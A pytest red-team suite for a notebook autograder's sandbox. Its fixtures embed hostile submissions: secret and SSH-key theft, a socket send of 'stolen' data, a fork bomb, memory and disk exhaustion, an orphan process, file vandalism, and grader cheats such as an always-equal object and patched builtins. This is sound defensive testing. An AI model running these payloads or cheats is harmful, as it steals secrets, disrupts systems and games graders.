@@ -1,0 +1,311 @@
+"""Red team: a class of lab 01 where each submission is the solved lab changed in one hostile way,
+graded in the sandbox as an instructor would (``grade.grade_folder``, two at a time).
+
+Each hostile change goes into the first answer cell (before or after the right answer) unless
+said otherwise. What an instructor needs, checked for every submission: no points for a cheat,
+the course, the submissions and the output folder unchanged but for the grader's own files, no
+secret nor another student's work in any feedback, no process left, the batch finishes, every
+file a row with a clear flag.
+"""
+import csv
+import hashlib
+import json
+import os
+import socket
+import tempfile
+import threading
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from tests import grading_fixtures
+from utils.constants import LABS_DIR, NOTEBOOKS_DIR, REPO_ROOT, UTILS_DIR
+from utils.course import cells, grade, sandbox
+
+MASK, COLLATE, LOSS = "01-sft-mask-answer", "01-collate-answer", "01-causal-loss-answer"
+SECRETS = {"HF_TOKEN": "hf_redteam_env_4f1c", "OPENAI_API_KEY": "sk-redteam-env-9e2a"}
+PLANTED = "hf_redteam_planted_7d3b"           # in the fake home's token file and .ssh key
+SCRATCH_SECRET = "sybil-private-work-51c0"    # what one student leaves in her scratch for another to find
+MARKER = "redteam-orphan-8b6f"                # the command line of the process that tries to outlive grading
+
+# student: (answer cell, "before" | "after" | "replace", code). {port}, {home}, {subs}, {out} are filled in.
+HOSTILE = {
+    "vandal": (MASK, "before", """
+for path, text in [("{repo}/utils/rewards.py", "\\nBROKEN = 1\\n"), ("{lesson}", " "), ("{repo}/grades.csv", "x,8\\n"),
+                   ("{repo}/notebooks/grades.csv", "x,8\\n"), ("{out}/grades.csv", "vandal,100\\n"),
+                   ("{subs}/alice.ipynb", "{{}}")]:
+    try:
+        with open(path, "a") as f:
+            f.write(text)
+    except OSError:
+        pass
+"""),
+    "secrets": (MASK, "after", """
+import os
+raise AssertionError(str({{k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}}))
+"""),
+    "homefile": (MASK, "after", """
+import os
+found = {{}}
+for path in ["{home}/.cache/huggingface/token", "{home}/.ssh/id_rsa", os.path.expanduser("~/.cache/huggingface/token"),
+             "/root/.ssh/id_rsa", "/etc/shadow"]:
+    try:
+        found[path] = open(path).read()
+    except OSError as e:
+        found[path] = type(e).__name__
+raise AssertionError(str(found))
+"""),
+    "network": (MASK, "after", """
+import socket
+socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
+"""),
+    "orphan": (MASK, "after", """
+import subprocess, sys
+subprocess.Popen(["setsid", sys.executable, "-c", "import os, time\\nif os.fork(): os._exit(0)\\n"
+                  "os.setsid(); time.sleep(900)  # {marker}"], start_new_session=True)
+"""),
+    "forkbomb": (MASK, "before", """
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+"""),
+    "memhog": (MASK, "before", "hog = bytearray(10 * 2**30)\n"),
+    "bigfile": (MASK, "before", """
+for i in range(5000):  # 8 MiB files until something stops it (40 GB)
+    try:
+        with open(f"/tmp/fill{{i}}.bin", "wb") as f:
+            f.write(b"\\0" * (8 << 20))
+    except OSError:
+        pass
+"""),
+    "solutions": (MASK, "replace", "from utils.solutions.lesson01 import *  # the reference answers\n"),
+    "solutions2": (COLLATE, "replace", "from utils.solutions.lesson01 import collate\n"),
+    "sybil": (MASK, "after", """
+import os
+for folder in ("/scratch", "/tmp", os.path.expanduser("~")):
+    with open(os.path.join(folder, "notes.txt"), "w") as f:
+        f.write("{scratch_secret}")
+import time; time.sleep(8)  # stay while the next student looks
+"""),
+    "trent": (MASK, "after", """
+import os
+needle, seen = "{scratch_secret_reversed}"[::-1], []
+for top in ("/", "/tmp", "/scratch", "{tmp}"):
+    for root, dirs, files in os.walk(top):
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", ".venv", ".pyenv")]
+        for name in files:
+            try:
+                with open(os.path.join(root, name), errors="ignore") as f:
+                    if needle in f.read(1 << 20):
+                        seen.append(os.path.join(root, name))
+            except OSError:
+                pass
+raise AssertionError(f"found {{seen}}")
+"""),
+    "always_equal": (COLLATE, "replace", """
+class AlwaysEqual:
+    def __eq__(self, other): return True
+    def __ge__(self, other): return True
+    def __getattr__(self, name): return lambda *a, **k: AlwaysEqual()
+    def __getitem__(self, key): return AlwaysEqual()
+    def __iter__(self): return iter(["input_ids", "labels", "attention_mask"])
+def collate(examples, pad_token_id):
+    return {{k: AlwaysEqual() for k in ("input_ids", "labels", "attention_mask")}}
+"""),
+    "patched_abs": (LOSS, "replace", """
+import builtins, torch
+builtins.abs = lambda x: 0
+def causal_lm_loss(logits, labels):
+    return torch.tensor(0.0)
+"""),
+    "stdin": (MASK, "before", "input('type the answer: ')\n"),
+    "chatty": (MASK, "after", "print('x' * (50 * 2**20))\n"),
+}
+CHEATS = {"solutions": 5, "solutions2": 6, "always_equal": 6, "patched_abs": 5, "forged_cell": 8}  # most points earned
+
+
+def hostile_submission(student, fill):
+    cell_id, where, code = HOSTILE[student]
+    nb = grading_fixtures.solved_lab(executed=True)
+    cell = next(c for c in nb.cells if cells.grade_id(c) == cell_id)
+    code = code.format(**fill)
+    cell.source = {"before": code + "\n" + cell.source, "after": cell.source + "\n" + code, "replace": code}[where]
+    return nbformat.writes(nb)
+
+
+def digest(folder, skip=("__pycache__",)):
+    out = {}
+    for root, dirs, files in os.walk(folder):
+        dirs[:] = sorted(d for d in dirs if d not in skip)
+        for name in files:
+            p = os.path.join(root, name)
+            out[os.path.relpath(p, folder)] = os.readlink(p) if os.path.islink(p) else \
+                hashlib.sha256(open(p, "rb").read()).hexdigest()
+    return out
+
+
+def orphans():
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                if MARKER.encode() in f.read():
+                    found.append(pid)
+        except OSError:
+            pass
+    return found
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    try:
+        box = sandbox.find()
+    except sandbox.SandboxUnavailable as e:
+        pytest.fail(f"no sandbox on this machine (run `make setup`): {e}")
+    root = tmp_path_factory.mktemp("redteam")
+    subs, out, home = root / "submissions", root / "grades", root / "home"
+    (home / ".cache" / "huggingface").mkdir(parents=True)
+    (home / ".cache" / "huggingface" / "token").write_text(PLANTED)
+    (home / ".ssh").mkdir()
+    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY----- {PLANTED}")
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.2)
+    connections, stop = [], threading.Event()
+
+    def listen():
+        while not stop.is_set():
+            try:
+                connections.append(server.accept())
+            except OSError:
+                pass
+    listener = threading.Thread(target=listen, daemon=True)
+    listener.start()
+    fill = {"repo": REPO_ROOT, "lesson": NOTEBOOKS_DIR / "01_sft_from_scratch.ipynb", "port": server.getsockname()[1],
+            "home": home, "subs": subs, "out": out, "marker": MARKER, "scratch_secret": SCRATCH_SECRET,
+            "scratch_secret_reversed": SCRATCH_SECRET[::-1],
+            "tmp": tempfile.gettempdir()}
+    subs.mkdir()
+    for student in HOSTILE:
+        (subs / f"{student}.ipynb").write_text(hostile_submission(student, fill), encoding="utf-8")
+    honest = nbformat.writes(grading_fixtures.solved_lab(executed=True))
+    (subs / "alice.ipynb").write_text(honest, encoding="utf-8")
+    (subs / "名字").mkdir()
+    (subs / "名字" / "01_sft_from_scratch.ipynb").write_text(honest, encoding="utf-8")
+    forged = grading_fixtures.solved_lab(executed=True)
+    bonus = nbformat.v4.new_code_cell("print('bonus')")
+    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": "01-bonus", "points": 100,
+                                  "locked": True, "schema_version": 3}
+    forged.cells.append(bonus)
+    (subs / "forged_cell.ipynb").write_text(nbformat.writes(forged), encoding="utf-8")
+    v3 = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}
+    (subs / "oldformat.ipynb").write_text(json.dumps(v3), encoding="utf-8")
+    huge = grading_fixtures.solved_lab(executed=True)
+    huge.cells.append(nbformat.v4.new_markdown_cell("y" * (200 * 2**20)))
+    (subs / "huge.ipynb").write_text(nbformat.writes(huge), encoding="utf-8")
+    (subs / "mallory.ipynb").symlink_to(NOTEBOOKS_DIR / "01_sft_from_scratch.ipynb")   # the lesson: the answers
+    (subs / "oscar.ipynb").symlink_to(home / ".cache" / "huggingface" / "token")      # outside the folder
+    (subs / "peggy").mkdir()
+    (subs / "peggy" / "01_sft_from_scratch.ipynb").symlink_to(NOTEBOOKS_DIR / "01_sft_from_scratch.ipynb")
+
+    course = {name: digest(path) for name, path in (("utils", UTILS_DIR), ("notebooks", NOTEBOOKS_DIR),
+                                                     ("labs", LABS_DIR))}
+    before = digest(subs)
+    scratch_before = set(Path(tempfile.gettempdir()).glob("grade-*"))
+    saved = {k: os.environ.get(k) for k in [*SECRETS, "HOME"]}
+    os.environ.update(SECRETS, HOME=str(home))
+    try:
+        rows = grade.grade_folder(subs, "01", out, jobs=2, timeout=90, cell_timeout=15, progress=lambda *_: None,
+                                  box=box)
+    finally:
+        for k, v in saved.items():
+            os.environ.pop(k) if v is None else os.environ.__setitem__(k, v)
+        stop.set()
+        listener.join()
+        server.close()
+    return {"rows": {r["student"]: r for r in rows}, "subs": subs, "out": out, "before": before, "course": course,
+            "connections": connections, "scratch_before": scratch_before, "box": box}
+
+
+pytestmark = pytest.mark.slow
+
+
+def feedback(attacked, student):
+    return (attacked["out"] / "feedback" / f"{student}.md").read_text(encoding="utf-8")
+
+
+def test_every_file_has_a_row_and_the_honest_students_full_marks(attacked):
+    rows = attacked["rows"]
+    expected = {*HOSTILE, "alice", "名字", "forged_cell", "oldformat", "huge", "mallory", "oscar", "peggy"}
+    assert set(rows) == expected
+    for student in ("alice", "名字", "vandal", "secrets", "homefile", "orphan", "sybil", "chatty"):
+        assert rows[student]["total"] == 8, (student, rows[student])
+    assert all(row["max"] == 8 for row in rows.values()), "the forged 100-point cell counted"
+    assert not any("unsandboxed" in row["flags"] for row in rows.values())
+
+
+@pytest.mark.parametrize("student", sorted(CHEATS))
+def test_a_cheat_earns_nothing(attacked, student):
+    row = attacked["rows"][student]
+    assert row["total"] <= CHEATS[student], row
+    if student != "forged_cell":
+        assert row["total"] < 8
+
+
+@pytest.mark.parametrize("student,flag,total", [
+    ("forkbomb", "process-limit:01-sft-mask-answer", 5), ("memhog", "memory-limit:01-sft-mask-answer", 5),
+    ("bigfile", "scratch-full:01-sft-mask-answer", 5), ("mallory", "symlink", 0), ("oscar", "symlink", 0),
+    ("peggy", "symlink", 0), ("huge", "invalid-notebook", 0), ("oldformat", "invalid-notebook", 0),
+])
+def test_a_limit_or_a_trick_is_flagged(attacked, student, flag, total):
+    row = attacked["rows"][student]
+    assert flag in row["flags"].split(), row
+    assert row["total"] == total, row
+
+
+def test_nothing_of_the_instructors_changed(attacked):
+    for name, path in (("utils", UTILS_DIR), ("notebooks", NOTEBOOKS_DIR), ("labs", LABS_DIR)):
+        assert digest(path) == attacked["course"][name], f"{name}/ changed"
+    assert digest(attacked["subs"]) == attacked["before"], "a submission changed"
+    assert not (REPO_ROOT / "grades.csv").exists() and not (NOTEBOOKS_DIR / "grades.csv").exists()
+    made = sorted(digest(attacked["out"]))
+    assert all(p == "grades.csv" or p.startswith("feedback/") for p in made), made
+    with open(attacked["out"] / "grades.csv", newline="", encoding="utf-8") as f:
+        assert {r["student"] for r in csv.DictReader(f)} == set(attacked["rows"]), "a forged row in grades.csv"
+
+
+def test_no_secret_and_no_other_students_work_in_any_feedback(attacked):
+    texts = {p.name: p.read_text(encoding="utf-8") for p in (attacked["out"] / "feedback").glob("*.md")}
+    texts["grades.csv"] = (attacked["out"] / "grades.csv").read_text(encoding="utf-8")
+    for name, text in texts.items():
+        for secret in [*SECRETS.values(), PLANTED]:
+            assert secret not in text, f"{secret} leaked into {name}"
+        if name != "sybil.md":
+            assert SCRATCH_SECRET not in text, f"sybil's scratch reached {name}"
+    # the scrubbed environment: no token, no key, only the grader's own kernel settings
+    assert "raised {'TOKENIZERS_PARALLELISM': 'false'}" in feedback(attacked, "secrets")
+    assert "found []" in feedback(attacked, "trent")
+
+
+def test_no_connection_no_process_left(attacked):
+    assert attacked["connections"] == [], "a submission reached the instructor's loopback listener"
+    assert "ConnectionRefusedError" in feedback(attacked, "network")  # the sandbox's own loopback: nobody listens
+    assert orphans() == [], "a submission's process outlived the grading"
+    left = set(Path(tempfile.gettempdir()).glob("grade-*")) - attacked["scratch_before"]
+    assert not left, f"scratch folders left behind: {left}"
+    cgroups = [d for _, parent in attacked["box"].cgroups.values() for d in parent.glob(f"grade-{os.getpid()}-*")]
+    assert cgroups == [], f"cgroups left behind: {cgroups}"
+
+
+def test_no_sandbox_grades_but_flags_every_row(tmp_path, capsys):
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    (subs / "carol.ipynb").write_text(grading_fixtures.submission("stub")[1], encoding="utf-8")
+    assert grade.main([str(subs), "--lab", "01", "--out", str(tmp_path / "out"), "--no-sandbox"]) == 0
+    printed = capsys.readouterr().out
+    assert "UNSANDBOXED" in printed.splitlines()[-1]
+    with open(tmp_path / "out" / "grades.csv", newline="", encoding="utf-8") as f:
+        assert [r["flags"].split()[-1] for r in csv.DictReader(f)] == ["unsandboxed"]
